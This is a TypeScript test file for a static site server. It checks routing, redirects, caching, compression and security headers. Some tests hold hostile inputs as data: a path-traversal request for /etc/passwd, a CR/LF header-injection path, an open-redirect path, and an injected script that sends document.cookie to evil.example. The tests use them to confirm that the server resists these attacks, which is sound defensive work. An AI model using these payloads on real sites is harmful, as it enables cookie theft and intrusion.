import { createHash } from 'node:crypto';
import { readFile, rm, writeFile } from 'node:fs/promises';
import path from 'node:path';
import { brotliDecompressSync, gunzipSync } from 'node:zlib';
import { CSP_MANIFEST_FILE } from '@wf/config/csp';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createTestApp, FAKE_INLINE_SCRIPT, FAKE_SITE, type TestApp } from '../testing/app.ts';
import { etagMatches } from './site.ts';

let test: TestApp;

beforeAll(async () => {
  test = await createTestApp();
});
afterAll(async () => {
  await test.close();
});

const get = (url: string, headers: Record<string, string> = {}) => test.app.request(url, { headers });

describe('pages', () => {
  it('given /, it serves the home page as revalidated HTML', async () => {
    const response = await get('/');
    expect(response.status).toBe(200);
    expect(response.headers.get('Content-Type')).toBe('text/html; charset=utf-8');
    expect(response.headers.get('Cache-Control')).toBe('no-cache');
    expect(await response.text()).toBe(FAKE_SITE['index.html']);
  });

  it('given a clean URL, it serves the matching .html file', async () => {
    expect(await (await get('/temples/phoenix')).text()).toContain('Phoenix Temple');
    expect(await (await get('/temples')).text()).toContain('Temples index');
  });

  it('given a trailing slash or .html, it redirects to the clean URL and keeps the query', async () => {
    const slash = await get('/temples/?a=1');
    expect(slash.status).toBe(301);
    expect(slash.headers.get('Location')).toBe('/temples?a=1');
    const html = await get('/temples/phoenix.html');
    expect(html.status).toBe(301);
    expect(html.headers.get('Location')).toBe('/temples/phoenix');
  });

  it('given an unknown video, it answers 404 with the Video Not Found page', async () => {
    const response = await get('/videos/no-such-video');
    expect(response.status).toBe(404);
    expect(response.headers.get('Cache-Control')).toBe('no-store');
    expect(await response.text()).toContain('Video Not Found');
  });

  it('given any other unknown path, it answers 404 with the general page', async () => {
    const response = await get('/no/such/page');
    expect(response.status).toBe(404);
    expect(await response.text()).toContain('Page Not Found');
  });

  it('given a path climbing out of the site, it answers 404', async () => {
    expect((await get('/..%2f..%2fetc/passwd')).status).toBe(404);
  });

  it('given an encoded CR/LF in a path that redirects, it redirects with it encoded, not a 500', async () => {
    const response = await get('/temples%0D%0ASet-Cookie:%20x=1/');
    expect(response.status).toBe(301);
    expect(response.headers.get('Location')).toBe('/temples%0D%0ASet-Cookie%3A%20x%3D1');
    expect(response.headers.get('Set-Cookie')).toBeNull();
  });

  it('given an encoded slash that would make a protocol-relative redirect, it stays on the site', async () => {
    const response = await get('/%2Fevil.example/');
    expect(response.status).toBe(301);
    expect(response.headers.get('Location')).toBe('/evil.example');
  });

  it('given a path segment longer than a file name may be (ENAMETOOLONG), it answers 404, not 500', async () => {
    const response = await get(`/videos/${'a'.repeat(300)}`);
    expect(response.status).toBe(404);
    expect(await response.text()).toContain('Video Not Found');
  });

  it('given HEAD, it answers the headers without a body', async () => {
    const response = await test.app.request('/temples', { method: 'HEAD' });
    expect(response.status).toBe(200);
    expect(response.headers.get('Content-Type')).toContain('text/html');
    expect(await response.text()).toBe('');
  });

  it('given another method, it answers 405 with Allow', async () => {
    const response = await test.app.request('/temples', { method: 'POST' });
    expect(response.status).toBe(405);
    expect(response.headers.get('Allow')).toBe('GET, HEAD');
  });
});

describe('security headers on HTML', () => {
  it('given a page with an inline script, its CSP allows that script by hash and the Vimeo player', async () => {
    const response = await get('/');
    const csp = response.headers.get('Content-Security-Policy') ?? '';
    const hash = createHash('sha256').update(FAKE_INLINE_SCRIPT).digest('base64');
    expect(csp).toContain(`script-src 'self' 'sha256-${hash}'`);
    expect(csp).not.toContain("script-src 'self' 'unsafe-inline'");
    expect(csp).toContain('frame-src https://player.vimeo.com');
    expect(csp).toContain("frame-ancestors 'none'");
    expect(csp).toContain("base-uri 'self'");
    expect(csp).toContain("form-action 'self'");
    expect(response.headers.get('X-Content-Type-Options')).toBe('nosniff');
    expect(response.headers.get('Referrer-Policy')).toBe('strict-origin-when-cross-origin');
  });

  it('given a 404 page, it carries the CSP too', async () => {
    expect((await get('/nowhere')).headers.get('Content-Security-Policy')).toContain("default-src 'self'");
  });

  it('given a script written into a built page after the build, its CSP does not allow it (attack: a tampered file)', async () => {
    const injected = 'fetch("https://evil.example/?c=" + document.cookie)';
    const file = path.join(test.env.siteDir, 'temples.html');
    const original = await readFile(file, 'utf8');
    try {
      await writeFile(file, `${original}<script>${injected}</script>`);
      const response = await get('/temples');
      expect(await response.text()).toContain(injected);
      const hash = createHash('sha256').update(injected).digest('base64');
      const csp = response.headers.get('Content-Security-Policy') ?? '';
      expect(csp).not.toContain(hash);
      expect(csp).toMatch(/script-src 'self';/);
    } finally {
      await writeFile(file, original);
    }
  });

  it('given the manifest, the site does not serve it', async () => {
    expect((await get(`/${CSP_MANIFEST_FILE}`)).status).toBe(404);
  });

  it('given every page, it carries a Permissions-Policy that turns off the camera, microphone and location', async () => {
    const policy = (await get('/')).headers.get('Permissions-Policy') ?? '';
    for (const feature of ['camera=()', 'microphone=()', 'geolocation=()']) expect(policy).toContain(feature);
  });
});

describe('security headers on what is not a page', () => {
  it.each([
    ['a script', '/_astro/client.abc123.js'],
    ['a stylesheet', '/_astro/style.def456.css'],
    ['an SVG image', '/favicon.svg'],
    ['an API answer', '/api/health'],
    ['an API error', '/api/nowhere'],
  ])('given %s, its CSP allows nothing and no framing', async (_, url) => {
    const response = await get(url);
    expect(response.headers.get('Content-Security-Policy')).toBe(
      "default-src 'none'; frame-ancestors 'none'",
    );
    expect(response.headers.get('Permissions-Policy')).toContain('camera=()');
  });
});

describe('a site built without a CSP manifest', () => {
  it('given a page with an inline script, no inline script is allowed', async () => {
    const manifest = path.join(test.env.siteDir, CSP_MANIFEST_FILE);
    const saved = await readFile(manifest, 'utf8');
    await rm(manifest);
    try {
      const csp = (await get('/')).headers.get('Content-Security-Policy') ?? '';
      expect(csp).toMatch(/script-src 'self';/);
    } finally {
      await writeFile(manifest, saved);
    }
    const hash = createHash('sha256').update(FAKE_INLINE_SCRIPT).digest('base64');
    expect((await get('/')).headers.get('Content-Security-Policy')).toContain(hash);
  });
});

describe('assets', () => {
  it('given a hashed /_astro/ asset, it is cached for a year as immutable', async () => {
    const response = await get('/_astro/client.abc123.js');
    expect(response.status).toBe(200);
    expect(response.headers.get('Cache-Control')).toBe('public, max-age=31536000, immutable');
    expect(response.headers.get('Content-Type')).toBe('text/javascript; charset=utf-8');
  });

  it('given Accept-Encoding br or gzip, it compresses text and says so', async () => {
    const br = await get('/_astro/client.abc123.js', { 'Accept-Encoding': 'gzip, deflate, br' });
    expect(br.headers.get('Content-Encoding')).toBe('br');
    expect(br.headers.get('Vary')).toBe('Accept-Encoding');
    expect(brotliDecompressSync(Buffer.from(await br.arrayBuffer())).toString()).toBe(
      FAKE_SITE['_astro/client.abc123.js'],
    );
    const gz = await get('/_astro/style.def456.css', { 'Accept-Encoding': 'gzip' });
    expect(gz.headers.get('Content-Encoding')).toBe('gzip');
    expect(gunzipSync(Buffer.from(await gz.arrayBuffer())).toString()).toBe(
      FAKE_SITE['_astro/style.def456.css'],
    );
  });

  it('given an ETag the client already has, it answers 304 without a body', async () => {
    const first = await get('/temples/phoenix');
    const etag = first.headers.get('ETag') ?? '';
    expect(etag).toMatch(/^".+"$/);
    const second = await get('/temples/phoenix', { 'If-None-Match': etag });
    expect(second.status).toBe(304);
    expect(await second.text()).toBe('');
  });
});

describe('etagMatches', () => {
  it('matches lists, weak tags and *', () => {
    expect(etagMatches('"a", W/"b"', '"b"')).toBe(true);
    expect(etagMatches('*', '"b"')).toBe(true);
    expect(etagMatches('"a"', '"b"')).toBe(false);
    expect(etagMatches(undefined, '"b"')).toBe(false);
  });
});
